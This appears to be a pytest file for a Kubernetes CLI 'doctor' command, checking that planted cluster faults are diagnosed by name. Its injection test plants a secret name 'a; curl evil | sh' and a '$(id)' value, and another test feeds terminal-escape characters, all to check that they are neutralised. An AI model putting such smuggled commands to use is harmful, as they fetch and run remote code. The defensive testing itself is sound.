"""headway doctor: each planted fault is found by its name, and nothing else is."""

from __future__ import annotations

import ast
import copy
import dataclasses
import json
import re
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from doctored import (
    LEASE,
    NAMESPACE,
    Answers,
    Doctored,
    claim,
    healthy,
    job,
    node,
    on_path,
    pod_that_waits,
    waiting,
)
from fake_kubectl import FakeKubectl, error, listed, recorded
from harness import ROOT
from hasty_clock import NOW, Hasty
from headway_api.crd import KINDS, definition
from headway_cli.cluster.doctor import gather as gathering
from headway_cli.cluster.doctor import installation, namespace, room, storage
from headway_cli.cluster.doctor.checks import MOST_OF_A_CHECK, findings
from headway_cli.cluster.doctor.facts import Facts, Finding, Level, served_fields
from headway_cli.cluster.doctor.gather import gather
from headway_cli.cluster.doctor.why import of_deployment, of_job
from headway_cli.cluster.errors import UnreachedError
from headway_cli.cluster.kubectl import Call, Kubectl
from headway_cli.main import main
from headway_cli.verbs import doctor as verb

KNOWN = {f"{kind.plural}.headway.dev": served_fields(definition(kind)) for kind in KINDS}
BINDINGS = "validatingadmissionpolicybindings"
TRAINING = "trainingjobs.headway.dev"
CRD = f"customresourcedefinition {TRAINING}"
FORBIDDEN = 'Error from server (Forbidden): nodes is forbidden: User "ann" cannot list resource "nodes"\n'
NOT_FOUND = 'Error from server (NotFound): things "x" not found\n'
TAINT = {"key": "team", "value": "b", "effect": "NoSchedule"}
GPU_TAINT = {"key": "nvidia.com/gpu", "value": "present", "effect": "NoSchedule"}
GPUS = {"resources": {"cpu": "1", "memory": "1Gi", "gpu": 2, "gpuResource": "nvidia.com/gpu"}}
QUOTA_SAID = "pods churn-1 is forbidden: exceeded quota: team, requested: pods=1, used: pods=4, limited: pods=4"
SECURITY_SAID = 'pods "x" is forbidden: violates PodSecurity "restricted:latest": privileged'


def facts_of(answers: Answers) -> Facts:
    """What is gathered from some answers."""
    return gather(Doctored(answers), NAMESPACE, NOW, operator_namespace=None, own_version="0.1.0", known=lambda: KNOWN)


def bad(found: list[Finding]) -> set[tuple[str, str]]:
    """What is wrong, by name."""
    return {(each.check, str(each.level)) for each in found if each.level in (Level.FAIL, Level.WARN)}


def planted(**answers: Any) -> Answers:
    """A healthy cluster with other answers; `_` is a space in a question's name."""
    made = healthy()
    for what, answer in answers.items():
        assert what.replace("_", " ") in made
        made[what.replace("_", " ")] = answer
    return made


def with_jobs(*jobs: dict[str, Any], **answers: Any) -> Answers:
    return planted(**answers) | {TRAINING: list(jobs)}


def changed(what: str, change: Callable[[Any], Any]) -> Answers:
    """A healthy cluster with one answer changed in place."""
    made = healthy()
    change(made[what])
    return made


def without_field(crd: dict[str, Any]) -> None:
    spec = crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["spec"]["properties"]
    del spec["scheduling"]


def with_field(crd: dict[str, Any]) -> None:
    schema = crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["spec"]["properties"]
    schema["quantum"] = {"type": "string"}


def quota(**hard_and_used: tuple[str, str]) -> dict[str, Any]:
    hard = {key: value[0] for key, value in hard_and_used.items()}
    used = {key: value[1] for key, value in hard_and_used.items()}
    return {"metadata": {"name": "team"}, "spec": {"hard": hard}, "status": {"hard": hard, "used": used}}


def limits(**entry: Any) -> list[dict[str, Any]]:
    return [{"metadata": {"name": "small"}, "spec": {"limits": [{"type": "Container", **entry}]}}]


def storage_class(name: str = "standard", **more: Any) -> dict[str, Any]:
    return {"metadata": {"name": name}, "provisioner": "ebs.csi.aws.com", "volumeBindingMode": "Immediate", **more}


def operator_with(name: str, value: str) -> Answers:
    return changed(
        "deployments",
        lambda found: found[0]["spec"]["template"]["spec"]["containers"][0]["env"].append(
            {"name": name, "value": value}
        ),
    )


def denied(*resources: str) -> Answers:
    def deny(reviews: list[dict[str, Any]]) -> None:
        for each in reviews:
            wanted = each["spec"]["resourceAttributes"]
            if f"{wanted['verb']} {wanted['resource']}" in resources:
                each["status"]["allowed"] = False

    return changed("rights", deny)


FAULTS: list[tuple[str, str, str, Answers]] = [
    ("server-version", "FAIL", "1.29", planted(version={"serverVersion": {"major": "1", "minor": "29"}})),
    ("crd-missing", "FAIL", TRAINING, healthy() | {CRD: NOT_FOUND}),
    ("crd-version", "FAIL", "spec.scheduling", changed(CRD, without_field)),
    ("crd-version", "warn", "spec.quantum", changed(CRD, with_field)),
    ("operator-missing", "FAIL", "nobody looks", planted(deployments=[])),
    ("operator-not-ready", "FAIL", "no pod", changed("deployments", lambda found: found[0].update(status={}))),
    ("operator-not-ready", "FAIL", "0 replicas", changed("deployments", lambda f: (
        f[0]["spec"].update(replicas=0), f[0].update(status={})))),
    ("operator-not-ready", "warn", "1 of 2", changed("deployments", lambda f: f[0]["status"].update(readyReplicas=1))),
    ("operator-lease", "FAIL", "10 min", changed(LEASE, lambda f: f["spec"].update(renewTime="2026-11-29T18:50:00Z"))),
    ("operator-lease", "FAIL", "no holder", changed(LEASE, lambda f: f["spec"].update(holderIdentity=""))),
    ("operator-version", "warn", "0.0.9", changed("deployments", lambda f: f[0]["metadata"].update(
        labels={"app.kubernetes.io/version": "0.0.9"}))),
    ("operator-twice", "warn", "2 operators", changed("deployments", lambda f: f.append(copy.deepcopy(f[0])))),
    ("namespace-not-watched", "FAIL", "team-z", operator_with("HEADWAY_NAMESPACES", "team-z")),
    ("policy-missing", "FAIL", "headway-trainer", changed("validatingadmissionpolicies", lambda f: f.pop(0))),
    ("policy-unbound", "FAIL", "headway-operator-pods", changed(BINDINGS, lambda f: f.pop())),
    ("service-monitor", "warn", "no ServiceMonitor", planted(servicemonitors=[])),
    ("rights", "FAIL", "create trainingjobs", denied("create trainingjobs")),
    ("rights", "warn", "get pods/log", denied("get pods")),
    ("namespace-missing", "FAIL", "default", planted(namespace=NOT_FOUND)),
    ("namespace-terminating", "FAIL", "deleted", changed(
        "namespace", lambda f: f["status"].update(phase="Terminating"))),
    ("quota", "FAIL", "pods 0 of 0", planted(resourcequotas=[quota(pods=("0", "0"))])),
    ("quota", "warn", "pods 4 of 4", planted(resourcequotas=[quota(pods=("4", "4"))])),
    ("quota", "FAIL", "churn waits", with_jobs(
        waiting("PodsRefused", QUOTA_SAID), resourcequotas=[quota(pods=("4", "4"))])),
    ("limit-range", "FAIL", "max is 32Mi", planted(limitranges=limits(max={"memory": "32Mi"}))),
    ("limit-range", "FAIL", "min is 1", planted(limitranges=limits(min={"cpu": "1"}))),
    ("limit-range", "FAIL", "default limit", planted(limitranges=limits(default={"cpu": "5m"}))),
    ("pod-security", "FAIL", "violates PodSecurity", with_jobs(waiting("PodsRefused", SECURITY_SAID))),
    ("pod-security", "FAIL", "hostNetwork", with_jobs(
        job(head={"template": {"spec": {"hostNetwork": True}}}),
        namespace={"metadata": {"name": "default", "labels": {"pod-security.kubernetes.io/enforce": "baseline"}}})),
    ("image-pull", "FAIL", "tr:1", planted(pods=[pod_that_waits("ImagePullBackOff", "401 Unauthorized")])),
    ("claim-no-class", "FAIL", "none is the default (nfs)", planted(persistentvolumeclaims=[claim()])),
    ("claim-no-class", "FAIL", "no StorageClass fast", planted(
        persistentvolumeclaims=[claim(storageClassName="fast")])),
    ("claim-access-mode", "FAIL", "Pending for 6 min: StorageClass standard offers no ReadWriteMany", planted(
        persistentvolumeclaims=[claim(storageClassName="standard")], storageclasses=[storage_class()])),
    ("claim-pending", "FAIL", "quota of disks", planted(
        persistentvolumeclaims=[claim(storageClassName="nfs")],
        events=[{"reason": "ProvisioningFailed", "message": "quota of disks",
                 "involvedObject": {"kind": "PersistentVolumeClaim", "name": "models"}}])),
    ("claim-waits", "warn", "its first pod", planted(
        persistentvolumeclaims=[claim(storageClassName="local")],
        storageclasses=[storage_class("local", volumeBindingMode="WaitForFirstConsumer", provisioner="nfs")])),
    ("claim-missing", "FAIL", "names the claim data", with_jobs(
        job(storage={"persistentVolumeClaim": {"name": "data"}}))),
    ("secret-missing", "FAIL", "names the Secret s3", with_jobs(
        job(storage={"uri": "s3://x", "secretRef": {"name": "s3"}}))),
    ("secret-missing", "FAIL", "defaultStorage names the Secret keys", operator_with(
        "HEADWAY_DEFAULT_STORAGE_SECRET", "keys")),
    ("nodes-not-ready", "FAIL", "none of 1", changed("nodes", lambda f: f[0]["spec"].update(unschedulable=True))),
    ("nodes-too-small", "FAIL", "memory 1Ti", with_jobs(job(workers={"resources": {"cpu": "1", "memory": "1Ti"}}))),
    ("gpus-none", "FAIL", "no node has nvidia.com/gpu", with_jobs(job(workers=GPUS))),
    ("gpus-too-many", "FAIL", "no node has more than 1", with_jobs(
        job(workers=GPUS), nodes=[node(gpus="1")])),
    ("node-taint", "FAIL", "team=b:NoSchedule", with_jobs(job(workers=GPUS), nodes=[node(taints=[TAINT], gpus="4")])),
    ("node-taint", "FAIL", "nvidia.com/gpu=present", with_jobs(
        waiting("Unschedulable", "1 node(s) had untolerated taint {nvidia.com/gpu: present}", workers=GPUS),
        nodes=[node(taints=[GPU_TAINT], gpus="4")])),
]  # fmt: skip
"""The fault's name, how bad it is, a part of the sentence, and the cluster that has it."""


@pytest.mark.parametrize(("check", "level", "part", "answers"), FAULTS)
def test_a_planted_fault_is_found_by_name_and_nothing_else_is(
    check: str, level: str, part: str, answers: Answers
) -> None:
    found = findings(facts_of(answers))
    assert bad(found) == {(check, level)}
    told = [each for each in found if each.check == check and each.level == level]
    assert part in told[0].said
    assert all(each.fix for each in found if each.level is Level.FAIL)


def test_at_least_fifteen_faults_that_keep_jobs_from_running_have_names_of_their_own() -> None:
    assert len({check for check, level, _, _ in FAULTS if level == "FAIL"}) >= 15


def names_in_code() -> set[str]:
    """The names that checks of the installation and the namespace give to faults."""
    calls = (
        node
        for module in (installation, namespace, room, storage)
        for node in ast.walk(ast.parse(Path(str(module.__file__)).read_text()))
        if isinstance(node, ast.Call) and getattr(node.func, "id", "") in ("fail", "warn")
    )
    names = (call.args[0] for call in calls)
    return {each.value for each in names if isinstance(each, ast.Constant) and isinstance(each.value, str)}


def test_the_page_has_each_fault_that_doctor_finds_and_nothing_else() -> None:
    page = (ROOT / "docs/how-to/troubleshoot.md").read_text()
    table = page.partition("| fault | what it is |\n")[2].partition("\n\n")[0]
    assert set(re.findall(r"^\| `([a-z-]+)` \|", table, re.MULTILINE)) == names_in_code()


def test_each_fault_is_planted_by_a_test() -> None:
    assert {check for check, _, _, _ in FAULTS} == names_in_code() - {"namespace-closed"}  # that is below


def test_the_cluster_s_own_namespaces_are_for_no_job() -> None:
    facts = dataclasses.replace(facts_of(healthy()), namespace="kube-system")
    assert ("namespace-closed", "FAIL") in bad(findings(facts))


@pytest.mark.parametrize(
    "answers",
    [
        healthy(),
        with_jobs(job(workers=GPUS), nodes=[node(taints=[GPU_TAINT], gpus="4")]),
        with_jobs(
            job(workers=GPUS | {"template": {"spec": {"tolerations": [{"key": "team", "operator": "Exists"}]}}}),
            nodes=[node(taints=[TAINT], gpus="4")],
        ),
        with_jobs(job(storage={"uri": "s3://x", "secretRef": {"name": "s3"}}), secrets="secret/s3\n"),
        with_jobs(job(suspend=True, storage={"uri": "s3://x", "secretRef": {"name": "gone"}})),
        planted(resourcequotas=[quota(pods=("9", "4")), quota(**{"requests.nvidia.com/gpu": ("0", "0")})]),
        planted(limitranges=limits(max={"memory": "8Gi"}, min={"cpu": "10m"}, default={"cpu": "2"})),
    ],
)  # fmt: skip
def test_a_cluster_without_a_fault_has_no_finding_but_ok(answers: Answers) -> None:
    found = findings(facts_of(answers))
    assert bad(found) == set()
    assert {each.level for each in found} == {Level.OK}


@pytest.mark.parametrize("what", sorted(set(healthy()) - {"version", "secrets"}))
def test_what_may_not_be_seen_is_not_checked_and_is_no_problem(what: str) -> None:
    found = findings(facts_of(healthy() | {what: FORBIDDEN}))
    assert bad(found) == set()
    (told,) = [each.said for each in found if each.level is Level.UNSEEN]
    assert told.startswith("not checked: ")
    assert told.endswith('nodes is forbidden: User "ann" cannot list resource "nodes"')


def test_objects_of_any_shape_break_no_check() -> None:
    strange = {"metadata": [], "spec": 3, "status": {"conditions": {"a": 1}, "allocatable": ["x"], "hard": 7}}
    for what in set(healthy()) - {"secrets", "version"}:
        odd: list[Any] = [strange, {}, {"metadata": {"name": 4}, "spec": {"limits": [{"type": "Pod", "max": 1}]}}]
        for answer in ([each] for each in odd):
            findings(facts_of(healthy() | {what: answer}))


def test_a_name_that_a_tenant_has_made_up_comes_into_no_command_that_people_copy() -> None:
    volume = {"name": "x", "secret": {"secretName": "a; curl evil | sh"}}
    evil = job(head={"template": {"spec": {"volumes": [volume]}}}, storage={"secretRef": {"name": "$(id)"}})
    assert "evil" not in str(findings(facts_of(with_jobs(evil))))
    kubectl = Doctored(with_jobs(evil))
    gather(kubectl, NAMESPACE, NOW, operator_namespace=None, own_version="", known=dict)
    assert not [words for words in kubectl.asked if words[:2] == ("get", "secrets")]


def test_a_login_that_is_not_taken_is_an_error_and_one_answer_that_does_not_come_is_not_checked() -> None:
    refused = "error: You must be logged in to the server (Unauthorized)\n"
    with pytest.raises(UnreachedError, match="logged in"):
        facts_of(dict.fromkeys(healthy(), refused) | {"version": healthy()["version"]})
    found = findings(facts_of(healthy() | {"nodes": error("timeout")}))
    assert bad(found) == set()
    assert [each.check for each in found if each.level is Level.UNSEEN] == ["nodes"]


def test_a_thousand_jobs_with_one_fault_are_a_few_lines() -> None:
    jobs = [job(workers=GPUS) for _ in range(1000)]
    found = findings(facts_of(with_jobs(*jobs, nodes=[node(taints=[TAINT], gpus="4")])))
    told = [each for each in found if each.check == "node-taint"]
    assert len(told) == MOST_OF_A_CHECK + 1
    assert told[-1].said == "and 995 more like these"


def test_more_objects_than_are_asked_for_are_said_and_nothing_is_concluded_from_what_is_not_there() -> None:
    kubectl = Doctored(
        healthy() | {"persistentvolumeclaims": {"kind": "List", "metadata": {"continue": "x"}, "items": []}}
        | {TRAINING: [job(storage={"persistentVolumeClaim": {"name": "data"}})]}
    )  # fmt: skip
    found = findings(gather(kubectl, NAMESPACE, NOW, operator_namespace=None, own_version="", known=dict))
    assert bad(found) == set()
    assert "not checked: persistentvolumeclaims: there are more than 500" in [each.said for each in found]
    assert all("limit=" in words[1] for words in kubectl.asked if words[1].startswith("--raw") and "?" in words[1]
               and "pretty" not in words[1])  # fmt: skip


def unseen_job(created: str) -> dict[str, Any]:
    found = job()
    del found["status"]
    found["metadata"]["creationTimestamp"] = created
    return found


def starting(**running: str) -> dict[str, Any]:
    found = job()
    found["status"]["phase"] = "Starting"
    found["status"]["conditions"][2] = {"type": "Running", "status": "False", **running}
    return found


def rejected() -> dict[str, Any]:
    found = job()
    found["status"]["conditions"] = [
        {"type": "Accepted", "status": "False", "reason": "InvalidSpec", "message": "spec.model: no such"}
    ]
    return found


MOUNT = {
    "reason": "FailedMount", "message": 'secret "s3" not found',
    "involvedObject": {"kind": "Pod", "name": "churn-f5438-1-head"},
}  # fmt: skip
HEAD = {**recorded("pods")["items"][0], "status": {"phase": "Pending"}}
STARTING = starting(reason="Starting", message="0 of 3")
WHY: list[tuple[str, str, str, dict[str, Any], dict[str, Any]]] = [
    ("job", "ok", "job churn runs: 2 of 2 workers ready", job(), {}),
    ("job-Unschedulable", "FAIL", "churn waits: Unschedulable, 0/3 nodes", waiting("Unschedulable", "0/3 nodes"), {}),
    ("job-PodsRefused", "FAIL", "exceeded quota", waiting("PodsRefused", QUOTA_SAID), {}),
    ("job-InvalidSpec", "FAIL", "spec.model: no such", rejected(), {}),
    ("job-unseen", "FAIL", "no operator has looked at it for 1 h", unseen_job("2026-11-29T18:00:00Z"), {}),
    ("job-unseen", "warn", "no operator", unseen_job("2026-11-29T18:59:58Z"), {}),
    ("job-suspended", "warn", "is suspended", job(suspend=True), {}),
    ("job-ImagePull", "FAIL", "401", STARTING, {
        "pods": [pod_that_waits("ErrImagePull", "401 Unauthorized")]}),
    ("job-CreateContainerConfigError", "FAIL", 'secret "env" not found', STARTING, {
        "pods": [pod_that_waits("CreateContainerConfigError", 'secret "env" not found')]}),
    ("job-FailedMount", "FAIL", 'secret "s3" not found', STARTING, {
        "pods": [HEAD], "events": [MOUNT]}),
    ("job-starting", "warn", "0 of 3 pods", starting(reason="Starting", message="0 of 3 pods"), {"pods": []}),
    ("job-Retrying", "warn", "attempt 2 in 10 s", starting(reason="Retrying", message="attempt 2 in 10 s"), {}),
    ("job-UserError", "FAIL", "has failed: UserError", recorded("failed"), {}),
]  # fmt: skip


@pytest.mark.parametrize(("check", "level", "part", "found", "answers"), WHY)
def test_why_a_job_does_not_run_is_one_sentence(
    check: str, level: str, part: str, found: dict[str, Any], answers: dict[str, Any]
) -> None:
    told = of_job(facts_of(planted(**answers)), found)
    assert (told.check, str(told.level)) == (check, level)
    assert part in told.said
    assert "\n" not in told.said
    assert told.fix or told.level is not Level.FAIL


def test_a_deployment_has_its_sentence() -> None:
    made: dict[str, Any] = {"metadata": {"name": "churn"}}
    assert of_deployment(made).check == "deployment-unseen"
    made["status"] = {"phase": "Degraded", "summary": {"message": "no version answers"}}
    assert of_deployment(made).said == "deployment churn is Degraded: no version answers"
    made["status"] = {"phase": "Ready"}
    assert of_deployment(made).level is Level.OK


@pytest.fixture(autouse=True)
def clock(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(verb, "CLOCK", Hasty())
    monkeypatch.setattr(gathering, "CALL_SECONDS", 300.0)  # a test's kubectl is slow where other tests run
    monkeypatch.setattr(verb, "_own_version", lambda: "0.1.0")


def test_the_command_says_what_is_wrong_and_what_to_do_and_ends_with_1(kubectl: FakeKubectl) -> None:
    on_path(
        kubectl,
        planted(
            persistentvolumeclaims=[claim(storageClassName="standard")],
            storageclasses=[storage_class()],
            servicemonitors=[],
            nodes=FORBIDDEN,
        ),
    )
    done = CliRunner().invoke(main, ["doctor", "-n", "default"])
    assert done.exit_code == 1, done.output
    lines = done.stdout.splitlines()
    assert lines[0] == "ok    API server 1.32"
    assert "ok    operator: 2 ready, headway-6c9 leads, Lease renewed 3 s ago" in lines
    at = lines.index("FAIL  claim models: Pending for 6 min: StorageClass standard offers no ReadWriteMany")
    assert lines[at + 1].startswith("      fix: accessModes: [ReadWriteOnce]")
    assert any(line.startswith("--    not checked: nodes: ") for line in lines)
    assert lines[-1] == "1 problem, 1 warning"
    assert len(kubectl.calls()) <= 24


def test_the_command_says_first_why_a_job_does_not_run_and_no_tenant_steers_the_terminal(kubectl: FakeKubectl) -> None:
    evil = waiting("Unschedulable", "0/3 nodes \x1b[2J\u202eare")
    kubectl.says(listed(evil), "get", "trainingjobs.headway.dev/churn")
    on_path(kubectl, healthy())
    done = CliRunner().invoke(main, ["doctor", "churn", "-n", "default", "-v"])
    assert done.exit_code == 1, done.output
    assert done.stdout.startswith("FAIL  job churn waits: Unschedulable, 0/3 nodes ")
    assert "\x1b" not in done.output
    assert "\u202e" not in done.output
    assert "NetworkPolicies" in done.stdout
    assert done.stdout.splitlines()[-1] == "1 problem"


def test_programs_get_names_and_a_healthy_cluster_ends_with_0(kubectl: FakeKubectl) -> None:
    on_path(kubectl, healthy())
    done = CliRunner().invoke(main, ["doctor", "-n", "default", "-o", "json"])
    assert done.exit_code == 0, done.output
    told = json.loads(done.stdout)
    assert {"check": "server-version", "level": "ok", "said": "API server 1.32", "fix": ""} in told


def test_a_cluster_that_is_not_reached_ends_with_3_after_one_call(kubectl: FakeKubectl) -> None:
    kubectl.fails(error("refused"), "version")
    done = CliRunner().invoke(main, ["doctor"])
    assert done.exit_code == 3, done.output
    assert len(kubectl.calls("get")) == 0


def test_a_kubectl_that_hangs_at_the_first_call_ends_doctor(
    kubectl: FakeKubectl, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(gathering, "CALL_SECONDS", 0.3)
    kubectl.hangs("version")
    done = CliRunner().invoke(main, ["doctor"])
    assert done.exit_code == 3
    assert "kubectl has not answered within 0.3 s" in done.stderr
    assert [words[0] for words in kubectl.calls()] == ["config", "version"], "nothing more was asked"


def test_calls_that_hang_are_not_checked_and_are_waited_for_at_the_same_time(
    kubectl: FakeKubectl, monkeypatch: pytest.MonkeyPatch
) -> None:
    hanging = {"deployments", "events", "limitranges", "namespace", "nodes", "pods", "resourcequotas", "storageclasses"}

    class Hanging(Doctored):
        """Some calls are those of a program that does not answer."""

        def start(self, *words: str, stdin: str | None = None, seconds: float = 60.0) -> Call:
            if self._what(words) in hanging:
                return Kubectl.start(self, *words, stdin=stdin, seconds=seconds)
            return super().start(*words, stdin=stdin, seconds=seconds)

    kubectl.hangs("get")
    monkeypatch.setattr(gathering, "CALL_SECONDS", 1.5)
    began = time.monotonic()
    facts = gather(
        Hanging(healthy()), NAMESPACE, NOW, operator_namespace=None, own_version="0.1.0", known=lambda: KNOWN
    )
    assert time.monotonic() - began < 1.5 * len(hanging) / 2, "one after the other they would take 12 seconds"
    found = findings(facts)
    late = {each.check for each in found if "kubectl has not answered within 1.5 s" in each.said}
    assert late == hanging
    assert bad(found) == set()
